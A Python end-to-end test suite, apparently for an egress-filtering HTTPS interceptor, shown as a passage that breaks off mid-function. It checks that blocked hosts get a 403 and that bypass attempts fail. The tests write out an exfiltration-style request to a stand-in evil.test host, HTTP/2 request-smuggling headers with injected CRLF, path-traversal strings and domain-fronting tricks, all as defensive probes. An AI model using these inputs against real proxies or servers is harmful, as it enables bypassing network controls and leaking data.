"""The interceptor end to end: real clients in a box namespace, real servers on a net host.

One topology, one upstream server and one interceptor (as an unprivileged uid)
are shared by the module; clients run as another unprivileged uid. TCP 80/443
of every uid but the proxy's is redirected to the interceptor.
"""

from __future__ import annotations

import ipaddress
import json
import os
import re
import secrets
import shutil
import signal
import tempfile
import textwrap
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import jsonschema
import pytest

from runtime.core.policy import Mode, Origin, Policy, make_rule
from runtime.policyfile import write_policy
from runtime.trafficlog import schema_path
from tests.harness import Topology, python_bin
from tests.harness.interceptor import Interceptor
from tests.harness.upstream import (
    UpstreamCA,
    build_git_repo,
    build_simple_index,
    read_records,
    redirect_to_interceptor,
    wait_ready,
)

pytestmark = pytest.mark.e2e

PROXY_UID = 64101
CLIENT_UID = 64102
CONFIG = "/work/.copilot_here/network.json"
NAMES = (
    "api.github.com",
    "npm.registry.test",
    "git.test",
    "pypi.test",
    "ws.test",
    "evil.test",
    "v6.test",
    "nowhere.test",
)
SECRET = "Sup3rSecretQ"  # in query strings and header values; must never be logged
#: IP literals of the net host that a rule allows (filled in by the env fixture): raw
#: probes dial them, so "allowed address" is meant literally.
RAW_ALLOWED: list[str] = []


def enforce_policy(*extra) -> Policy:
    user = Origin("user", CONFIG)
    rules = [
        *(make_rule(ip, origin=user) for ip in RAW_ALLOWED),
        make_rule("api.github.com", ["/repos/"], origin=user),
        make_rule("npm.registry.test"),
        make_rule("git.test", origin=user),
        make_rule("pypi.test", origin=user),
        make_rule("ws.test", ["/ws/"], origin=user),
        make_rule("v6.test", origin=user),
        make_rule("nowhere.test", origin=user),
        *extra,
    ]
    return Policy.build(Mode.ENFORCE, True, rules, CONFIG)


@dataclass
class Env:
    topo: Topology
    work: Path
    ca: UpstreamCA
    proxy_ca: Path  # the interceptor's published CA, as clients see it
    policy_file: Path
    log_file: Path
    interceptor: Interceptor
    interceptor_err: Path
    other_ip: str
    source: str
    records: Path  # the upstream's own account of every connection it accepted
    raw_targets: dict[tuple[str, str], str]  # (family, "allowed"/"forbidden") -> address

    # -- clients -------------------------------------------------------------

    def run(
        self, argv: Sequence[str], env: dict[str, str] | None = None, timeout: float = 60
    ) -> CompletedProcess[str]:
        full = {"PYTHONPATH": self.source, "HOME": str(self.work / "home")}
        full.update(env or {})
        return self.topo.box_run(argv, user=CLIENT_UID, env=full, timeout=timeout)

    def curl(self, *args: str) -> CompletedProcess[str]:
        return self.run(["curl", "-sS", "--max-time", "20", "--cacert", str(self.proxy_ca), *args])

    def python(self, code: str, *args: str, **kw: Any) -> CompletedProcess[str]:
        return self.run([python_bin(), "-c", textwrap.dedent(code), *args], **kw)

    # -- the traffic log -----------------------------------------------------

    def all_lines(self) -> list[dict[str, Any]]:
        if not self.log_file.exists():
            return []
        return [json.loads(line) for line in self.log_file.read_text().splitlines()]

    def log_lines(self) -> list[dict[str, Any]]:
        """The end lines: one per request (and per connection closed as not HTTP)."""
        return [line for line in self.all_lines() if line["phase"] == "end"]

    def new_lines(self, before: int, expected: int, timeout: float = 5.0) -> list[dict]:
        """Exactly `expected` lines appended since `before` (waits for late writes)."""
        deadline = time.monotonic() + timeout
        while len(self.log_lines()) < before + expected and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.2)  # a duplicate would show up now
        lines = self.log_lines()[before:]
        assert len(lines) == expected, lines
        return lines

    def mark(self) -> int:
        return len(self.log_lines())

    # -- policy --------------------------------------------------------------

    def reload(
        self, policy: Policy | None = None, raw: str | None = None, missing: bool = False
    ) -> None:
        before = self.interceptor_err.read_text().count("policy reload")
        if missing:
            self.policy_file.unlink(missing_ok=True)
        elif raw is not None:
            self.policy_file.write_text(raw)
        else:
            write_policy(policy or enforce_policy(), self.policy_file)
        os.kill(self.interceptor.pid, signal.SIGHUP)
        deadline = time.monotonic() + 5
        while self.interceptor_err.read_text().count("policy reload") == before:
            assert time.monotonic() < deadline, "no reload logged"
            time.sleep(0.05)


def _chown_tree(path: Path, uid: int) -> None:
    os.chown(path, uid, uid)
    for entry in path.rglob("*"):
        os.chown(entry, uid, uid)


@pytest.fixture(scope="module")
def env(module_topology: Topology, staged_source: str) -> Iterator[Env]:
    topo = module_topology
    other = topo.add_address(f"{topo.v4_prefix}.9")
    # Addresses only the raw (not HTTP) probes dial: whatever reaches them shows up
    # in the upstream's record under their own address.
    v6_base = topo.v6_net.network_address
    raw_targets = {
        ("v4", "allowed"): topo.add_address(f"{topo.v4_prefix}.20"),
        ("v4", "forbidden"): topo.add_address(f"{topo.v4_prefix}.21"),
        ("v6", "allowed"): topo.add_address(str(v6_base + 0x20)),
        ("v6", "forbidden"): topo.add_address(str(v6_base + 0x21)),
    }
    RAW_ALLOWED[:] = [raw_targets["v4", "allowed"], raw_targets["v6", "allowed"]]
    hosts = {name: topo.net_ip for name in NAMES if name not in ("v6.test", "nowhere.test")}
    hosts["v6.test"] = topo.net_ip6
    topo.set_hosts(hosts)

    work = Path(tempfile.mkdtemp(prefix="sp-e2e-ic-", dir="/tmp"))
    work.chmod(0o755)
    ca = UpstreamCA.create(work / "upstream", names=list(NAMES))
    www = work / "www"
    www.mkdir()
    build_git_repo(www, "repo.git")
    build_simple_index(www, "sp-demo")
    for d in ("run", "logs", "ca", "confdir", "home"):
        (work / d).mkdir(mode=0o755)
    _chown_tree(work / "home", CLIENT_UID)
    for d in ("run", "logs", "ca", "confdir"):
        _chown_tree(work / d, PROXY_UID)
    (work / "confdir").chmod(0o700)
    for root, dirs, files in os.walk(www):
        for name in dirs:
            os.chmod(os.path.join(root, name), 0o755)
        for name in files:
            os.chmod(os.path.join(root, name), 0o644)

    server_log = (work / "upstream.log").open("w")
    records = work / "upstream-records.jsonl"
    server = topo.net_popen(
        [
            *(python_bin(), "-m", "tests.harness.upstream", "serve"),
            *("--cert", str(ca.server_cert), "--key", str(ca.server_key), "--root", str(www)),
            *("--record", str(records)),
        ],
        env={"PYTHONPATH": staged_source},
        stderr=server_log,
        text=True,
    )
    wait_ready(server)
    redirect_to_interceptor(topo, PROXY_UID)

    policy_file = work / "run" / "policy.json"
    write_policy(enforce_policy(), policy_file)
    marker = work / "run" / "interceptor.ready"
    marker.write_text("stale")  # must be replaced only once listening
    os.chown(marker, PROXY_UID, PROXY_UID)
    proxy_ca = work / "ca" / "ca.pem"
    log_file = work / "logs" / "traffic.jsonl"
    err_path = work / "interceptor.err"
    interceptor = Interceptor(
        topo,
        uid=PROXY_UID,
        source=staged_source,
        policy_file=policy_file,
        log_file=log_file,
        confdir=work / "confdir",
        proxy_ca=proxy_ca,
        marker=marker,
        err_path=err_path,
        upstream_ca=ca.ca_cert,
    ).start()
    yield Env(
        topo=topo,
        work=work,
        ca=ca,
        proxy_ca=proxy_ca,
        policy_file=policy_file,
        log_file=log_file,
        interceptor=interceptor,
        interceptor_err=err_path,
        other_ip=other,
        source=staged_source,
        records=records,
        raw_targets=raw_targets,
    )
    interceptor.stop()
    topo.stop(server)
    server_log.close()
    assert not marker.exists(), "readiness marker left behind at shutdown"
    shutil.rmtree(work, ignore_errors=True)


def _headers_and_body(out: str) -> tuple[int, dict[str, str], str]:
    head, _, body = out.replace("\r\n", "\n").partition("\n\n")
    lines = head.splitlines()
    status = int(lines[0].split()[1])
    headers = {k.strip().lower(): v.strip() for k, _, v in (x.partition(":") for x in lines[1:])}
    return status, headers, body


def assert_block_response(out: str, reason: str, url_fragment: str) -> str:
    status, headers, body = _headers_and_body(out)
    assert status == 403, out
    assert headers["content-type"] == "text/plain; charset=utf-8"
    assert headers["x-secure-proxy-decision"] == f"block; reason={reason}"
    assert int(headers["content-length"]) == len(body.encode())
    assert body.startswith("BLOCKED: "), body
    assert url_fragment in body.splitlines()[0]
    assert f"reason: {reason}" in body
    assert f"config: {CONFIG}" in body
    return body


# --------------------------------------------------------------------------- start-up


def test_ready_marker_ca_and_key_permissions(env: Env):
    info = json.loads((env.work / "run" / "interceptor.ready").read_text())
    assert info["pid"] == env.interceptor.pid
    assert any(addr[1] == 58080 for addr in info["listening"])
    assert any(":" in addr[0] for addr in info["listening"])  # IPv6 too
    assert env.proxy_ca.stat().st_mode & 0o777 == 0o644
    assert "BEGIN CERTIFICATE" in env.proxy_ca.read_text()
    key = env.work / "confdir" / "mitmproxy-ca.pem"
    st = key.stat()
    assert st.st_uid == PROXY_UID and st.st_mode & 0o077 == 0
    # The interceptor runs as the proxy uid, not root.
    status = Path(f"/proc/{env.interceptor.pid}/status").read_text()
    assert re.search(rf"^Uid:\s+{PROXY_UID}\s", status, re.M)


def test_not_an_open_proxy_from_outside_the_box(env: Env):
    """The interceptor listens on loopback only: a host on the network cannot use it."""
    info = json.loads((env.work / "run" / "interceptor.ready").read_text())
    assert {addr[0] for addr in info["listening"]} == {"127.0.0.1", "::1"}
    for addr in (env.topo.box_ip, env.topo.box_ip6):
        r = env.topo.net_run(
            [
                "curl",
                "-sS",
                "--max-time",
                "3",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                f"http://{'[' + addr + ']' if ':' in addr else addr}:58080/",
            ],
            user=CLIENT_UID,
        )
        assert r.returncode == 7, (addr, r.returncode, r.stdout, r.stderr)  # refused


# --------------------------------------------------------------------------- curl


def test_curl_http11_allowed_reaches_upstream_by_name(env: Env):
    before = env.mark()
    r = env.curl(
        "--http1.1",
        "-H",
        f"X-Probe: {SECRET}",
        f"https://api.github.com/repos/o/r?access_token={SECRET}",
    )
    assert r.returncode == 0, r.stderr
    seen = json.loads(r.stdout)
    assert seen["sni"] == "api.github.com" and seen["host"] == "api.github.com"
    assert seen["local"] == env.topo.net_ip
    assert seen["path"] == f"/repos/o/r?access_token={SECRET}"  # upstream gets the query
    [line] = env.new_lines(before, 1)
    assert line["action"] == "ALLOW" and line["status"] == 200
    assert line["http_version"] == "HTTP/1.1" and line["path"] == "/repos/o/r"
    assert line["rule"] == "api.github.com" and line["rule_source"] == CONFIG


def test_curl_http11_blocked_gets_403_explanation(env: Env):
    before = env.mark()
    r = env.curl("--http1.1", "-i", f"https://evil.test/steal?data={SECRET}")
    assert r.returncode == 0, r.stderr
    body = assert_block_response(r.stdout, "host_not_allowed", "https://evil.test/steal")
    assert '{"host": "evil.test"' in body
    [line] = env.new_lines(before, 1)
    assert line["action"] == "BLOCK" and line["status"] == 403 and line["host"] == "evil.test"


def test_curl_http2_each_stream_judged(env: Env):
    before = env.mark()
    r = env.curl(
        "--http2",
        "-i",
        "https://api.github.com/repos/a",
        "https://api.github.com/admin",
    )
    assert r.returncode == 0, r.stderr
    parts = re.split(r"(?=^HTTP/2 )", r.stdout, flags=re.M)
    parts = [p for p in parts if p.strip()]
    assert parts[0].startswith("HTTP/2 200")
    assert_block_response(parts[1], "path_not_allowed", "https://api.github.com/admin")
    lines = env.new_lines(before, 2)
    assert [x["status"] for x in lines] == [200, 403]
    assert {x["http_version"] for x in lines} == {"HTTP/2.0"}


@pytest.mark.parametrize("proto", ["--http1.1", "--http2"])
def test_keep_alive_second_request_judged_on_its_own(env: Env, proto: str):
    before = env.mark()
    r = env.curl(
        proto,
        "-w",
        "%{http_code} %{num_connects}\n",
        "-o",
        "/dev/null",
        "https://api.github.com/repos/x",
        "-o",
        "/dev/null",
        "https://api.github.com/orgs/x",
    )
    assert r.returncode == 0, r.stderr
    # one TCP connection, two requests, two verdicts
    assert r.stdout.split("\n")[:2] == ["200 1", "403 0"]
    assert [x["status"] for x in env.new_lines(before, 2)] == [200, 403]


def test_plain_http_on_port_80(env: Env):
    before = env.mark()
    r = env.curl("http://api.github.com/repos/x")
    assert r.returncode == 0, r.stderr
    seen = json.loads(r.stdout)
    assert seen["sni"] is None and seen["tls"] is False and seen["local"] == env.topo.net_ip
    r = env.curl("-i", "http://evil.test/")
    assert_block_response(r.stdout, "host_not_allowed", "http://evil.test/")
    # curl --resolve on port 80: the other IP is never reached.
    r = env.curl("--resolve", f"api.github.com:80:{env.other_ip}", "http://api.github.com/repos/y")
    assert json.loads(r.stdout)["local"] == env.topo.net_ip
    lines = env.new_lines(before, 3)
    assert [x["scheme"] for x in lines] == ["http"] * 3
    assert [x["port"] for x in lines] == [80] * 3


def test_dialled_ip_is_ignored_for_the_name(env: Env):
    before = env.mark()
    r = env.curl(
        "--resolve", f"api.github.com:443:{env.other_ip}", "https://api.github.com/repos/x"
    )
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["local"] == env.topo.net_ip  # not other_ip
    # An IP literal no rule allows is blocked.
    r = env.curl("-k", "-i", f"https://{env.other_ip}/repos/x")
    assert_block_response(r.stdout, "host_not_allowed", f"https://{env.other_ip}/repos/x")
    lines = env.new_lines(before, 2)
    assert lines[1]["host"] == env.other_ip


def test_forward_proxy_tricks_never_reach_a_disallowed_host(env: Env):
    """Speaking forward-proxy HTTP at the transparent interceptor: CONNECT is refused,
    and an absolute-form target naming another host than Host is domain fronting."""
    for proxy in ("http://evil.test:80", "http://evil.test:443"):
        r = env.curl("-i", "-p", "-x", proxy, "https://api.github.com/repos/x")
        assert r.returncode != 0 and "body_len" not in r.stdout, (proxy, r.stdout)
        assert r.stdout.startswith("HTTP/1.1 400"), (proxy, r.stdout)
    target_evil = env.curl(
        "-i", "--request-target", "http://evil.test/repos/x", "http://api.github.com/repos/x"
    )
    assert_block_response(target_evil.stdout, "host_mismatch", "http://api.github.com/repos/x")
    header_evil = env.curl(
        "-i",
        "--request-target",
        "http://api.github.com/repos/x",
        "-H",
        "Host: evil.test",
        "http://evil.test/repos/x",
    )
    assert_block_response(header_evil.stdout, "host_mismatch", "/repos/x")
    via_allowed = env.curl("-i", "-x", "http://api.github.com:80", "http://evil.test/repos/x")
    assert_block_response(via_allowed.stdout, "host_not_allowed", "http://evil.test/repos/x")


H2_CLIENT = """
import json, socket, ssl, sys
import h2.config, h2.connection, h2.events
spec = json.loads(sys.argv[1])
results = []
for case in spec["cases"]:
    got = {"name": case["name"], "status": None, "decision": None, "body": ""}
    try:
        ctx = ssl.create_default_context(cafile=spec["ca"])
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((spec["addr"], 443), timeout=10)
        sock = ctx.wrap_socket(raw, server_hostname=case["sni"])
        assert sock.selected_alpn_protocol() == "h2"
        # No client-side checks: the probe sends what an attacker would.
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
        conn = h2.connection.H2Connection(config)
        conn.initiate_connection()
        headers = [(k.encode("latin-1"), v.encode("latin-1")) for k, v in case["headers"]]
        body = case.get("body", "").encode()
        conn.send_headers(1, headers, end_stream=not body)
        if body:  # a body without content-length: HTTP/2 frames it, HTTP/1.1 would not
            conn.send_data(1, body, end_stream=True)
        sock.sendall(conn.data_to_send())
        done, data = False, b""
        while not done:
            chunk = sock.recv(65536)
            if not chunk:
                break
            for event in conn.receive_data(chunk):
                if isinstance(event, h2.events.ResponseReceived):
                    fields = {k.decode(): v.decode() for k, v in event.headers}
                    got["status"] = int(fields[":status"])
                    got["decision"] = fields.get("x-secure-proxy-decision")
                elif isinstance(event, h2.events.DataReceived):
                    data += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, 1)
                elif isinstance(
                    event, (h2.events.StreamEnded, h2.events.StreamReset,
                            h2.events.ConnectionTerminated)
                ):
                    done = True
            sock.sendall(conn.data_to_send())
        got["body"] = data.decode(errors="replace")
        sock.close()
    except Exception as exc:
        got["error"] = repr(exc)
    results.append(got)
print(json.dumps(results))
print("H2-END")
"""


def h2_requests(env: Env, cases: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Each case on its own HTTP/2 connection, as raw as the h2 library lets a client be."""
    spec = {"addr": env.topo.net_ip, "ca": str(env.proxy_ca), "cases": cases}
    r = env.python(H2_CLIENT, json.dumps(spec))
    out = r.stdout.splitlines()
    assert out[-1:] == ["H2-END"], (r.stdout, r.stderr)  # the client ran to its end
    return {x["name"]: x for x in json.loads(out[-2])}


def test_http2_requests_that_http1_would_read_as_others_never_reach_upstream(env: Env):
    """The upstream speaks HTTP/1.1, so mitmproxy writes each HTTP/2 request out as
    text: a line break in a header value, the :path or the :method, a :path in
    absolute form, or a body without content-length would have the upstream read
    requests nobody judged (here to evil.test and /admin, neither allowed). The
    malformed ones are refused as not_http; the body goes out framed."""
    marker = f"H2{secrets.token_hex(6)}"
    smuggled = f"GET /admin/{marker}/%s HTTP/1.1\r\nHost: evil.test\r\nX-Pad: b"

    def h(path: str, method: str = "GET", authority: str = "api.github.com", **extra: str):
        pseudo = [(":method", method), (":scheme", "https"), (":authority", authority)]
        return [*pseudo, (":path", path), *extra.items()]

    repos = f"/repos/{marker}"
    cases = [
        {"name": "value", "headers": h(f"{repos}/v", x_pad="a\r\n\r\n" + smuggled % "value")},
        {"name": "lf", "headers": h(f"{repos}/l", x_pad="a\n\n" + smuggled % "lf")},
        {"name": "nul", "headers": h(f"{repos}/n", x_pad="a\x00b")},
        {
            "name": "path",
            "headers": h(f"{repos}/p HTTP/1.1\r\nHost: api.github.com\r\n\r\n" + smuggled % "path"),
        },
        {"name": "method", "headers": h(f"{repos}/m", method=smuggled % "method" + "\r\n\r\nGET")},
        {
            "name": "absolute",
            "headers": h(f"http://evil.test/admin/{marker}/absolute", authority="git.test"),
        },
        {
            "name": "body",
            "headers": h(f"{repos}/body", method="POST"),
            "body": f"GET /admin/{marker}/body HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        },
    ]
    for case in cases:
        case["headers"] = [(k.replace("_", "-"), v) for k, v in case["headers"]]
        case["sni"] = dict(case["headers"])[":authority"]
    before, since = env.mark(), time.time()
    got = h2_requests(env, cases)
    refused = [c["name"] for c in cases if c["name"] != "body"]
    for name in refused:
        assert got[name]["status"] == 403, got[name]
        assert got[name]["decision"] == "block; reason=not_http", got[name]
    assert got["body"]["status"] == 200, got["body"]
    body_len = len(cases[-1]["body"])
    assert json.loads(got["body"]["body"])["body_len"] == body_len
    # The upstream's account: one request of this test reached it, the framed POST.
    requests = [x for x in upstream_records(env, since) if x["ev"] == "request"]
    assert [(x["method"], x["path"], x["host"]) for x in requests] == [
        ("POST", f"{repos}/body", "api.github.com")
    ], requests
    lines = env.new_lines(before, len(cases))
    by_reason = sorted(x["reason"] for x in lines)
    assert by_reason == ["not_http"] * len(refused) + ["rule_match"], lines
    assert all(x["method"] in ("GET", None) for x in lines if x["reason"] == "not_http")


def test_sni_host_mismatch_blocked(env: Env):
    before = env.mark()
    r = env.curl("-i", "-H", "Host: evil.test", "https://api.github.com/repos/x")
    assert_block_response(r.stdout, "host_mismatch", "https://api.github.com/repos/x")
    r = env.curl("--http2", "-i", "-H", "Host: evil.test", "https://api.github.com/repos/x")
    assert_block_response(r.stdout, "host_mismatch", "/repos/x")
    assert [x["reason"] for x in env.new_lines(before, 2)] == ["host_mismatch"] * 2


@pytest.mark.parametrize(
    "path",
    ["/repos/../admin", "/repos/%2e%2e/admin", "//repos/../admin", "/repos/%2E%2E/%2e%2e/admin"],
)
def test_path_tricks_blocked(env: Env, path: str):
    before = env.mark()
    r = env.curl("--path-as-is", "-i", f"https://api.github.com{path}")
    assert_block_response(r.stdout, "path_not_allowed", "https://api.github.com/admin")
    [line] = env.new_lines(before, 1)
    assert line["path"] == "/admin"


def test_ipv6_client_and_upstream(env: Env):
    before = env.mark()
    r = env.curl("-6", "https://v6.test/any")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["local"] == env.topo.net_ip6
    env.new_lines(before, 1)


def test_large_bodies_stream_and_are_counted(env: Env):
    before = env.mark()
    size = 3 * 1024 * 1024
    blob = env.work / "home" / "blob"
    blob.write_bytes(b"b" * size)
    os.chown(blob, CLIENT_UID, CLIENT_UID)
    r = env.curl("--data-binary", f"@{blob}", "https://api.github.com/repos/upload")
    assert json.loads(r.stdout)["body_len"] == size
    r = env.curl("-o", "/dev/null", "-w", "%{size_download}", "https://git.test/bytes/2500000")
    assert r.stdout == "2500000"
    up, down = env.new_lines(before, 2)
    assert up["bytes_out"] == size and up["method"] == "POST"
    assert down["bytes_in"] == 2500000


def test_upstream_failure_logged_once_as_502(env: Env):
    before = env.mark()
    # Allowed, but the proxy cannot resolve the name: mitmproxy answers 502.
    r = env.curl(
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "--resolve",
        f"nowhere.test:443:{env.other_ip}",
        "https://nowhere.test/x",
    )
    assert r.stdout == "502"
    [line] = env.new_lines(before, 1)
    assert line["status"] == 502 and line["action"] == "ALLOW"


# --------------------------------------------------------------------------- other clients


def test_node_fetch(env: Env):
    before = env.mark()
    script = """
    const urls = process.argv.slice(1);
    (async () => {
      for (const u of urls) {
        const r = await fetch(u);
        const text = await r.text();
        console.log(JSON.stringify({status: r.status,
          decision: r.headers.get('x-secure-proxy-decision'), first: text.split('\\n')[0]}));
      }
    })().catch(e => { console.error(e); process.exit(1); });
    """
    r = env.run(
        [
            "node",
            "-e",
            textwrap.dedent(script),
            "https://npm.registry.test/react",
            "https://evil.test/x",
        ],
        env={"NODE_EXTRA_CA_CERTS": str(env.proxy_ca)},
    )
    assert r.returncode == 0, r.stderr
    ok, blocked = (json.loads(x) for x in r.stdout.splitlines())
    assert ok["status"] == 200
    assert blocked == {
        "status": 403,
        "decision": "block; reason=host_not_allowed",
        "first": "BLOCKED: GET https://evil.test/x",
    }
    env.new_lines(before, 2)


def test_python_urllib(env: Env):
    before = env.mark()
    code = """
    import ssl, sys, urllib.request, urllib.error
    ctx = ssl.create_default_context(cafile=sys.argv[1])
    for url in sys.argv[2:]:
        try:
            with urllib.request.urlopen(url, context=ctx, timeout=20) as r:
                print(r.status)
        except urllib.error.HTTPError as e:
            print(e.code, e.headers["X-Secure-Proxy-Decision"], e.read().decode().splitlines()[0])
    """
    r = env.python(
        code, str(env.proxy_ca), "https://api.github.com/repos/x", "https://api.github.com/user"
    )
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == [
        "200",
        "403 block; reason=path_not_allowed BLOCKED: GET https://api.github.com/user",
    ]
    env.new_lines(before, 2)


def test_git_clone_over_https(env: Env):
    before = env.mark()
    git_env = {"GIT_SSL_CAINFO": str(env.proxy_ca), "GIT_TERMINAL_PROMPT": "0"}
    dest = env.work / "home" / "clone"
    r = env.run(["git", "clone", "-q", "https://git.test/repo.git", str(dest)], env=git_env)
    assert r.returncode == 0, r.stderr
    assert (dest / "README.md").read_text() == "hello from the test git server\n"
    n = len(env.new_lines(before, len(env.log_lines()) - before))
    assert n >= 3  # info/refs, HEAD, objects...
    assert all(x["host"] == "git.test" and x["action"] == "ALLOW" for x in env.log_lines()[before:])
    before = env.mark()
    r = env.run(
        ["git", "clone", "-q", "https://evil.test/repo.git", str(env.work / "home" / "no")],
        env=git_env,
    )
    assert r.returncode != 0 and "403" in r.stderr
    assert env.new_lines(before, 1)[0]["status"] == 403


def test_pip_install_from_simple_index(env: Env):
    before = env.mark()
    target = env.work / "home" / "site"
    pip = [python_bin(), "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check"]
    pip += ["--cert", str(env.proxy_ca), "--target", str(target)]
    r = env.run([*pip, "--index-url", "https://pypi.test/simple/", "sp-demo"], timeout=120)
    assert r.returncode == 0, r.stdout + r.stderr
    r = env.python("import sp_demo; print(sp_demo.VALUE)", env={"PYTHONPATH": str(target)})
    assert r.stdout.strip() == "sp-demo 0.1 installed through the proxy"
    lines = env.new_lines(before, 2)
    assert [x["path"] for x in lines] == [
        "/simple/sp-demo/",
        "/packages/sp_demo-0.1-py3-none-any.whl",
    ]
    before = env.mark()
    r = env.run(
        [*pip, "--retries", "0", "--index-url", "https://evil.test/simple/", "sp-demo"], timeout=120
    )
    assert r.returncode != 0
    assert all(x["status"] == 403 for x in env.new_lines(before, 1))


def test_websocket_client(env: Env):
    before = env.mark()
    code = """
    import ssl, sys
    from websockets.sync.client import connect
    from websockets.exceptions import InvalidStatus
    ctx = ssl.create_default_context(cafile=sys.argv[1])
    for url in sys.argv[2:]:
        try:
            with connect(url, ssl=ctx, open_timeout=20) as ws:
                ws.send("ping")
                print(ws.recv(timeout=10))
        except InvalidStatus as e:
            r = e.response
            print(r.status_code, r.headers["X-Secure-Proxy-Decision"])
    """
    r = env.python(code, str(env.proxy_ca), "wss://ws.test/ws/chat", "wss://evil.test/ws/chat")
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == ["echo: ping", "403 block; reason=host_not_allowed"]
    assert [x["status"] for x in env.new_lines(before, 2)] == [101, 403]


# --------------------------------------------------------------------------- reload

PERSISTENT_CLIENT = """
import http.client, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[1])
conn = http.client.HTTPSConnection("evil.test", 443, context=ctx, timeout=20)
for line in sys.stdin:
    conn.request("GET", line.strip())
    resp = conn.getresponse()
    resp.read()
    print(resp.status, id(conn.sock), flush=True)
"""


def test_sighup_applies_to_open_connection_and_broken_file_keeps_policy(env: Env):
    client = env.topo.box_popen(
        [python_bin(), "-c", PERSISTENT_CLIENT, str(env.proxy_ca)],
        user=CLIENT_UID,
        env={"HOME": str(env.work / "home")},
        stdin=-1,
        text=True,
    )

    def ask(path: str) -> tuple[int, str]:
        client.stdin.write(path + "\n")
        client.stdin.flush()
        status, sock = client.stdout.readline().split()
        return int(status), sock

    try:
        status, sock = ask("/a")
        assert status == 403
        env.reload(enforce_policy(make_rule("evil.test", ["/a"], origin=Origin("user", CONFIG))))
        status2, sock2 = ask("/a")
        assert (status2, sock2) == (200, sock)  # same connection, new policy
        env.reload(raw="{ this is not json")
        assert "keeping the policy in force" in env.interceptor_err.read_text()
        assert ask("/a") == (200, sock)
        env.reload(missing=True)
        assert "is missing; keeping the policy in force" in env.interceptor_err.read_text()
        assert ask("/a") == (200, sock)
    finally:
        env.reload(enforce_policy())
        client.stdin.close()
        env.topo.stop(client)
    assert ask_fresh_blocked(env)


def test_monitor_and_allow_all_modes(env: Env):
    try:
        rules = enforce_policy().rules
        env.reload(Policy.build(Mode.MONITOR, False, rules, CONFIG))
        before = env.mark()
        r = env.curl("https://evil.test/x", "-H", "Host: evil.test")
        assert json.loads(r.stdout)["host"] == "evil.test"  # went through
        [line] = env.new_lines(before, 1)
        assert line["violation"] is True and line["action"] == "ALLOW"
        assert line["mode"] == "monitor" and line["reason"] == "host_not_allowed"
        # allow-all without log_to_file: through, and not logged
        env.reload(Policy.build(Mode.ALLOW_ALL, False, (), "built-in defaults"))
        before = env.mark()
        r = env.curl("-o", "/dev/null", "-w", "%{http_code}", "https://evil.test/y")
        assert r.stdout == "200"
        env.new_lines(before, 0)
    finally:
        env.reload(enforce_policy())


def ask_fresh_blocked(env: Env) -> bool:
    r = env.curl("-o", "/dev/null", "-w", "%{http_code}", "https://evil.test/a")
    return r.stdout == "403"


@pytest.mark.parametrize(
    ("proto", "chunked"), [("--http1.1", False), ("--http1.1", True), ("--http2", False)]
)
def test_blocked_large_upload_gets_403_and_never_reaches_upstream(
    env: Env, proto: str, chunked: bool
):
    """Over 1 MiB (or chunked) to a blocked host: mitmproxy 11 cannot answer before the
    body ends, so the block sink takes the body and sends the same 403; nothing
    reaches upstream (the upstream echoes body_len; it must not appear)."""
    before = env.mark()
    size = 3 * 1024 * 1024
    blob = env.work / "home" / "blob-evil"
    blob.write_bytes(b"e" * size)
    os.chown(blob, CLIENT_UID, CLIENT_UID)
    extra = ["-H", "Transfer-Encoding: chunked"] if chunked else []
    r = env.curl("-i", proto, *extra, "--data-binary", f"@{blob}", "https://evil.test/upload")
    assert r.returncode == 0, r.stderr
    assert "body_len" not in r.stdout
    # curl sends Expect: 100-continue for a large body; the interim answer comes first.
    final = re.sub(r"\AHTTP/1\.1 100 Continue\r?\n\r?\n", "", r.stdout)
    body = assert_block_response(final, "host_not_allowed", "https://evil.test/upload")
    assert "Block-Token" not in r.stdout
    [line] = env.new_lines(before, 1)
    assert line["action"] == "BLOCK" and line["status"] == 403 and line["method"] == "POST"
    assert line["host"] == "evil.test" and line["bytes_out"] == size, line
    assert "has crashed" not in env.interceptor_err.read_text()
    assert body
    # A small body to a blocked host gets the 403 straight from the gate.
    before = env.mark()
    r = env.curl("-i", "--data-binary", "small", "https://evil.test/upload")
    assert_block_response(r.stdout, "host_not_allowed", "https://evil.test/upload")
    assert env.new_lines(before, 1)[0]["bytes_out"] == 5


# --------------------------------------------------------------------------- not HTTP

#: One connection from the box: optional TLS (trusting the interceptor's CA), the
#: payload, then everything that comes back until the peer closes or `wait` passes.
RAW_PROBE = """
import json, socket, ssl, sys
spec = json.loads(sys.argv[1])
result = {"connected": False, "tls": None, "got": "", "closed": False, "error": None}
try:
    sock = socket.create_connection((spec["addr"], spec["port"]), timeout=5)
    result["connected"] = True
    if spec["sni"]:
        ctx = ssl.create_default_context(cafile=spec["ca"])
        ctx.check_hostname = False  # the interceptor's certificate names the SNI, not the IP
        sock = ctx.wrap_socket(sock, server_hostname=spec["sni"])
        result["tls"] = sock.version()
    got = b""
    for part in spec["parts"]:
        try:
            sock.sendall(part.encode("latin-1"))
        except OSError as exc:
            result["error"] = repr(exc)
            result["closed"] = True
            break
        sock.settimeout(spec["wait"])
        try:
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    result["closed"] = True
                    break
                got += chunk
        except TimeoutError:
            pass
        except (ConnectionError, ssl.SSLError) as exc:
            result["closed"] = True
            result["error"] = repr(exc)
        if result["closed"]:
            break
    result["got"] = got.decode("latin-1")
    sock.close()
except Exception as exc:
    result["error"] = repr(exc)
print(json.dumps(result))
print("PROBE-END")
"""


def probe(
    env: Env, addr: str, port: int, parts: Sequence[str], sni: str | None = None, wait: float = 3.0
) -> dict[str, Any]:
    spec = {
        "addr": addr,
        "port": port,
        "sni": sni,
